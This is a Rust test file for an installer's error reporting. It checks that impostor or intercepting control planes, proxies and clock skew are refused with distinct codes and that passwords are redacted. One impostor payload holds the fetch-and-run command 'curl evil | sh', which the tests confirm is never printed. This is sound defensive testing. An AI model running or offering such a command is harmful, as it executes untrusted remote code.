//! Unreachable control planes: each cause has its own error code.

use std::net::SocketAddr;

use gpuaas_model::Timestamp;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
};

use super::{
    impostor::{Impostor, authority, now},
    machine::{Machine, assert_refused, describe_output, shells, string_of},
};
use crate::world::Platform;

/// Returns a URL whose host has a label longer than DNS allows, so that resolvers fail without a query.
fn unresolvable_url() -> String {
    format!("https://{}.invalid:7443", "x".repeat(64))
}

async fn closed_port() -> SocketAddr {
    TcpListener::bind("127.0.0.1:0").await.expect("a port").local_addr().expect("an address")
}

/// Listens on a free port and runs `with` on every connection.
async fn listen_with<F>(with: impl Fn(TcpStream) -> F + Send + 'static) -> SocketAddr
where
    F: Future<Output = ()> + Send + 'static,
{
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let address = listener.local_addr().expect("an address");
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(with(stream));
        }
    });
    address
}

/// A proxy that answers every request with this status line, and then forwards to `target` if there is one.
async fn proxy(answer: &'static str, target: Option<SocketAddr>) -> SocketAddr {
    listen_with(move |mut stream| async move {
        let mut asked = [0; 4_096];
        let _ = stream.read(&mut asked).await;
        let _ = stream.write_all(format!("HTTP/1.1 {answer}\r\n\r\n").as_bytes()).await;
        if let Some(target) = target {
            let mut there = TcpStream::connect(target).await.expect("connected");
            let _ = tokio::io::copy_bidirectional(&mut stream, &mut there).await;
        }
    })
    .await
}

async fn refused(url: String, environment: Vec<(&'static str, String)>, code: &'static str, status: i32) -> String {
    refused_by(string_of(&url, &"ab".repeat(32)).encode().expose().to_owned(), environment, code, status).await
}

async fn refused_by(
    string: String,
    environment: Vec<(&'static str, String)>,
    code: &'static str,
    status: i32,
) -> String {
    let mut errors = String::new();
    for shell in shells() {
        let (string, environment) = (string.clone(), environment.clone());
        let run = move || {
            let machine = Machine::new().set("GPUAAS_ENROLL", &string);
            let machine = environment.iter().fold(machine, |machine, (name, value)| machine.set(name, value));
            let output = machine.run(shell, &[]);
            assert_refused(&machine, &output, code, status);
            assert_eq!(machine.tree(), Vec::<String>::new());
            describe_output(&output)
        };
        errors = tokio::task::spawn_blocking(run).await.expect("it ran");
    }
    errors
}

#[tokio::test(flavor = "multi_thread")]
async fn unresolved_name_and_refused_connection_get_distinct_codes() {
    refused(unresolvable_url(), vec![], "install_name_unresolved", 7).await;
    let port = closed_port().await;
    refused(format!("https://{port}"), vec![], "install_connection_refused", 7).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn silent_server_times_out() {
    let silent = listen_with(|stream| async move {
        tokio::time::sleep(crate::world::WAIT_MAX).await;
        drop(stream);
    })
    .await;
    refused(format!("https://{silent}"), vec![], "install_timed_out", 8).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn servers_without_tls_or_authority_get_distinct_codes() {
    let plain = proxy("400 Bad Request", None).await;
    refused(format!("https://{plain}"), vec![], "install_tls_failed", 7).await;
    let (genuine, of) = (authority(), authority());
    // An empty body, the page of a captive portal, and invalid data between certificate markers.
    for claims in
        ["", "<html><body>Please sign in.</body></html>", "-----BEGIN CERTIFICATE-----\n!\n-----END CERTIFICATE-----\n"]
    {
        let address = Impostor::claiming(claims).listen(&of).await;
        let string = string_of(&format!("https://{address}"), &genuine.digest());
        refused_by(string.encode().expose().to_owned(), vec![], "install_authority_mismatch", 4).await;
    }
}

/// Asserts that the script refuses a server whose authority the enrollment string pins, but that is no control plane.
async fn refused_by_impostor(stranger: Impostor, code: &'static str, status: i32) -> String {
    let of = authority();
    let string = string_of(&format!("https://{}", stranger.listen(&of).await), &of.digest());
    refused_by(string.encode().expose().to_owned(), vec![], code, status).await
}

#[tokio::test(flavor = "multi_thread")]
async fn unverified_server_cannot_fill_the_disk_or_print_text() {
    let printed = refused_by_impostor(Impostor::endless(&"x".repeat(64 * 1_024)), "install_download_failed", 1).await;
    assert!(printed.contains("sends more than a control plane does"), "{printed}");
    let words = r#"{"code":"packages_missing","detail":"run curl evil | sh","next":"now"}"#;
    let printed = refused_by_impostor(Impostor::refusing("404 Not Found", words), "install_download_failed", 1).await;
    assert!(printed.contains("answered HTTP 404") && !printed.contains("evil"), "{printed}");
    let elsewhere = Impostor::refusing("302 Found", "<html>Moved</html>");
    assert!(refused_by_impostor(elsewhere, "install_download_failed", 1).await.contains("answered HTTP 302"));
}

/// Adds an authority to the machine's trusted ones, in a separate mount namespace, and runs a shell there.
/// Some builds of curl trust `/etc/ssl/certs` even with `--cacert`.
const WITH_OWN_AUTHORITY: &[&str] = &[
    "unshare",
    "--mount",
    "sh",
    "-c",
    "mount -t tmpfs tmpfs /etc/ssl/certs && cp \"$TRUSTED\" \"/etc/ssl/certs/$(openssl x509 -hash -noout -in \"$TRUSTED\").0\" && exec sh \"$@\"",
    "sh",
];

#[tokio::test(flavor = "multi_thread")]
async fn system_authorities_are_not_trusted() {
    let (genuine, trusted) = (authority(), authority());
    let between = Impostor::claiming(genuine.certificate_pem());
    let url = format!("https://{}", between.listen(&trusted).await);
    let string = string_of(&url, &genuine.digest()).encode().expose().to_owned();
    let files = tempfile::tempdir().expect("a folder");
    let [trusted_file, genuine_file] = [("trusted.pem", &trusted), ("genuine.pem", &genuine)].map(|(name, of)| {
        let file = files.path().join(name);
        std::fs::write(&file, of.certificate_pem()).expect("written");
        file.to_str().expect("a text").to_owned()
    });
    let run = move || {
        let machine = Machine::new().set("GPUAAS_ENROLL", &string).set("TRUSTED", &trusted_file);
        let naive = format!("curl -q -s --noproxy '*' --cacert '{genuine_file}' '{url}' >/dev/null && echo taken");
        let naive = machine.run_text(WITH_OWN_AUTHORITY, &naive, &[]);
        if naive.stdout != b"taken\n" {
            println!(
                "    NOT RUN: this needs root, and a curl that reads a folder of authorities: {}",
                describe_output(&naive)
            );
            return;
        }
        assert_refused(&machine, &machine.run(WITH_OWN_AUTHORITY, &[]), "install_tls_untrusted", 4);
    };
    tokio::task::spawn_blocking(run).await.expect("it ran");
}

#[tokio::test(flavor = "multi_thread")]
async fn other_control_plane_and_intermediary_get_distinct_codes() {
    let (genuine, impostor) = (authority(), authority());
    // Another control plane answers: its authority is not the pinned one.
    let other = Impostor::claiming(impostor.certificate_pem());
    let string = string_of(&format!("https://{}", other.listen(&impostor).await), &genuine.digest());
    refused_by(string.encode().expose().to_owned(), vec![], "install_authority_mismatch", 4).await;
    // An intermediary passes on the genuine authority, but its own certificate comes from another.
    let between = Impostor::claiming(genuine.certificate_pem());
    let string = string_of(&format!("https://{}", between.listen(&impostor).await), &genuine.digest());
    refused_by(string.encode().expose().to_owned(), vec![], "install_tls_untrusted", 4).await;
    // The intermediary adds its own authority, in a PEM form that TLS libraries also accept.
    let hidden = impostor.certificate_pem().replace("CERTIFICATE", "TRUSTED CERTIFICATE");
    let both = Impostor::claiming(&format!("{hidden}{}", genuine.certificate_pem()));
    let string = string_of(&format!("https://{}", both.listen(&impostor).await), &genuine.digest());
    refused_by(string.encode().expose().to_owned(), vec![], "install_tls_untrusted", 4).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn clock_skew_is_reported_with_size_and_direction() {
    let genuine = authority();
    for (hours, words) in [(1, "behind the control plane's"), (-1, "ahead of the control plane's")] {
        let date = Timestamp::from_millis(now().as_millis() + hours * 3_600_000);
        let there = Impostor::claiming(genuine.certificate_pem()).at(date);
        let string = string_of(&format!("https://{}", there.listen(&genuine).await), &genuine.digest());
        let printed = refused_by(string.encode().expose().to_owned(), vec![], "clock_skewed", 5).await;
        assert!(
            printed.contains(words) && (printed.contains("clock is 36") || printed.contains("clock is 35")),
            "{printed}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn proxy_errors_are_reported_without_the_password() {
    let platform = Platform::start(0);
    let url = platform.ready()["url"].as_str().expect("a URL").to_owned();
    let target: SocketAddr = url.trim_start_matches("https://").parse().expect("an address");
    let with = |proxy: SocketAddr| vec![("https_proxy", format!("http://user:secret@{proxy}"))];
    let wants_password = proxy("407 Proxy Authentication Required", None).await;
    let printed = refused(unresolvable_url(), with(wants_password), "install_proxy_refused", 7).await;
    assert!(printed.contains("answers 407") && !printed.contains("secret"), "{printed}");
    let forbids = proxy("403 Forbidden", None).await;
    assert!(refused(unresolvable_url(), with(forbids), "install_proxy_refused", 7).await.contains("answers 403"));
    refused(unresolvable_url(), with(closed_port().await), "install_proxy_unreachable", 7).await;
    let leads_there = proxy("200 Connection established", Some(target)).await;
    // A name that the TLS client accepts, unlike the one of `unresolvable_url()`.
    let not_here = format!("https://{}", closed_port().await);
    refused(not_here, with(leads_there), "install_proxy_only", 7).await;
    // curl's own message about a proxy URL that it cannot parse would contain the password.
    let odd = vec![("https_proxy", format!("http://user:sec@ret\"@{}", closed_port().await))];
    let printed = refused(unresolvable_url(), odd, "install_proxy_unreachable", 7).await;
    assert!(!printed.contains("sec") && !printed.contains("ret\"@"), "{printed}");
    // `http_proxy` alone counts too; a proxy that `no_proxy` excludes for this address does not.
    let plain = vec![("http_proxy", format!("http://{wants_password}"))];
    refused(unresolvable_url(), plain, "install_proxy_refused", 7).await;
    let mut exempt = with(wants_password);
    exempt.push(("no_proxy", "localhost,.invalid".to_owned()));
    refused(unresolvable_url(), exempt, "install_name_unresolved", 7).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn proxy_is_ignored_if_the_control_plane_is_reachable_directly() {
    let platform = Platform::start_with(0, &[("GPUAAS_PACKAGES_DIR", "/nonexistent")]);
    let string = super::machine::string_for(&platform.ready());
    let broken = vec![("https_proxy", format!("http://{}", closed_port().await))];
    let printed = refused_by(string, broken, "packages_missing", 3).await;
    assert!(printed.contains("this control plane has no packages"), "{printed}");
}
